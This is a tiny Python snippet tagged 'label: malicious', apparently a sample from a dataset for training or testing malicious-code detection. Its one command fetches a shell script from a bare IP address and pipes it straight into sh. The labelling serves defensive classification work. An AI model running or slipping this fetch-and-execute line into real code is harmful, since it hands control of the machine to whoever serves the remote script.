# label: malicious
import subprocess
subprocess.run("curl -fsSL http://203.0.113.9/install.sh | sh", shell=True)
